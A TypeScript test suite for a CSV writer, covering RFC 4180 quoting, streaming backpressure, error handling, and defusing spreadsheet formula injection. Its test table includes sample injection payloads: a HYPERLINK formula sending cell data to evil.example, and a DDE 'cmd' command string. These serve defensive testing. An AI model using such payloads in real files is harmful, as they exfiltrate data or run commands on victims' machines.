import { once } from 'node:events';
import { PassThrough, Writable } from 'node:stream';
import { text } from 'node:stream/consumers';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { BYTE_ORDER_MARK, type Cell, lineOf, writeCsv } from './csv.ts';

/** Reads RFC 4180, character by character, knowing nothing of how it was written. */
function parse(file: string): string[][] {
  const records: string[][] = [];
  let [record, field, quoted]: [string[], string, boolean] = [[], '', false];
  for (let at = 0; at < file.length; at += 1) {
    const next = file[at] ?? '';
    if (quoted && next === '"' && file[at + 1] === '"') {
      field += '"';
      at += 1;
    } else if (next === '"') quoted = !quoted;
    else if (!quoted && next === ',') {
      record.push(field);
      field = '';
    } else if (!quoted && next === '\r' && file[at + 1] === '\n') {
      records.push([...record, field]);
      [record, field] = [[], ''];
      at += 1;
    } else field += next;
  }
  if (quoted || field !== '' || record.length > 0) throw new Error('the file ends in the middle');
  return records;
}

const sign = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', ' ', '\u200b', '\u00a0');
const nasty = fc
  .tuple(fc.array(sign, { maxLength: 3 }), fc.string({ unit: 'binary' }), fc.constantFrom('', '"', ',', '\r\n', '"",'))
  .map(([signs, rest, end]) => signs.join('') + rest + end);
const cell: fc.Arbitrary<string> = fc.oneof(nasty, fc.string({ unit: 'grapheme' }), fc.string());
const rows = fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { maxLength: 8 });

/** As the reader gets a text: well-formed, without NUL. */
const plain = (value: string) => value.toWellFormed().replaceAll('\0', '\ufffd');

describe('a record', () => {
  it('is read back as it was written, but for a quote before what could be a formula', () => {
    fc.assert(
      fc.property(rows, (written) => {
        const read = parse(written.map(lineOf).join(''));
        expect(read).toHaveLength(written.length);
        for (const [index, cells] of written.entries()) {
          const texts = cells.map((one, at) => (read[index]?.[at] === plain(one) ? plain(one) : `'${plain(one)}`));
          expect(read[index]).toEqual(texts);
        }
      }),
    );
  });

  it('has no cell that begins with the sign of a formula', () => {
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1 }), (cells) => {
        for (const read of parse(lineOf(cells))[0] ?? []) expect(read).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
      }),
    );
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1)', `"'=HYPERLINK(""https://evil.example/?""&A1)"`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['-2+3+cmd|" /C calc"!A0', `"'-2+3+cmd|"" /C calc""!A0"`],
    ['  =1', `'  =1`],
    ['a=b', 'a=b'],
    ['陳大文, Ph.D.', '"陳大文, Ph.D."'],
  ])('writes %s as %s', (given, written) => {
    expect(lineOf([given])).toBe(`${written}\r\n`);
  });

  it('leaves numbers alone, and what is missing empty', () => {
    expect(lineOf([-1, undefined, 0])).toBe('-1,,0\r\n');
  });
});

describe('a file', () => {
  async function* many(count: number): AsyncGenerator<Cell[]> {
    for (let index = 0; index < count; index += 1) yield [index, `person ${index}`];
  }

  it('begins with the byte order mark and the names of the fields', async () => {
    const to = new PassThrough();
    const [file] = await Promise.all([text(to.pipe(new PassThrough())), writeCsv(to, ['at', 'name'], many(2))]);
    // The consumer's own decoder takes the mark away: the bytes are looked at in the flows.
    expect(parse(file.replace(BYTE_ORDER_MARK, ''))).toEqual([
      ['at', 'name'],
      ['0', 'person 0'],
      ['1', 'person 1'],
    ]);
  });

  it('is written no faster than it is taken', async () => {
    let [held, most] = [0, 0];
    const slow = new Writable({
      highWaterMark: 1024,
      write(_chunk, _encoding, done) {
        held = Math.max(held, slow.writableLength);
        setImmediate(done);
      },
    });
    const ended = once(slow, 'finish');
    async function* counted() {
      for await (const record of many(20_000)) {
        most = Math.max(most, slow.writableLength);
        yield record;
      }
    }
    expect(await writeCsv(slow, ['at', 'name'], counted())).toBe(20_000);
    await ended;
    expect(Math.max(held, most)).toBeLessThan(20_000);
  });

  it('isn’t ended where its records can’t be read, or nobody takes them', async () => {
    async function* broken(): AsyncGenerator<Cell[]> {
      yield* many(10);
      throw new Error('the store is away');
    }
    const to = new PassThrough();
    await expect(writeCsv(to, ['a'], broken())).rejects.toThrow('the store is away');
    expect(to.writableEnded).toBe(false);
    const gone = new PassThrough({ highWaterMark: 16 });
    const writing = writeCsv(gone, ['a'], many(1_000_000));
    gone.destroy();
    await expect(writing).rejects.toThrow(/abort/i);
  });
});
